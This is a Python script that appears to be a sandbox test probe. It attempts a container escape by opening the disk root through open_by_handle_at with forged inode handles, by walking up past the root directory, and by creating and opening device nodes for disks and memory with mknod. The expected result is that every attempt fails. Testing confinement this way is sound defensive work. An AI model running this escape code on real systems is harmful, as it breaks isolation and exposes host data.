"""Files by their numbers, where they have no name.

Inside of most walls, files have no path to what is outside; but the kernel also opens a file by the number that it has on its
disk. That was once a way out of containers: number 2 is the root of the disk. The attack makes such handles for the disks that
it sees, walks up from open folders, and asks for the disks themselves.
"""
# seen: no file by its number

# %% attack
import ctypes
import os
import stat
import struct

libc = ctypes.CDLL(None, use_errno=True)
NAME_TO, OPEN_BY = (303, 304) if os.uname().machine == "x86_64" else (264, 265)


def by_number(folder):
    mount = os.open(folder, os.O_RDONLY)
    for kind in (1, 2, 0x81):
        handle = ctypes.create_string_buffer(struct.pack("Ii", 8, kind) + struct.pack("II", 2, 0), 64)
        file = libc.syscall(OPEN_BY, mount, handle, os.O_RDONLY)
        if file >= 0:
            escaped(f"number 2 of the disk below {folder} is open: {os.listdir(file)[:5]}")
            return
    print("no file by its number below", folder, "-", os.strerror(ctypes.get_errno()))


def mischief():
    for folder in ("/", "/tmp", "/course", "/usr/lib", os.path.dirname(os.__file__)):
        try:
            by_number(folder)
            up = os.open(folder, os.O_RDONLY)
            for _ in range(20):
                up = os.open("..", os.O_RDONLY, dir_fd=up)
            if "home" in os.listdir(up) and os.path.isdir(place["course"]):
                escaped("there is a folder above the root")
        except OSError as problem:
            print("no file by its number:", folder, problem.strerror)
    for major, minor in ((254, 0), (8, 0), (259, 0), (1, 1), (1, 2)):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            try:
                os.mknod("/tmp/disk", kind | 0o600, os.makedev(major, minor))
                os.close(os.open("/tmp/disk", os.O_RDONLY))
                escaped(f"the disk {major}:{minor} is open")
            except OSError as problem:
                pass
    print("no disk either")
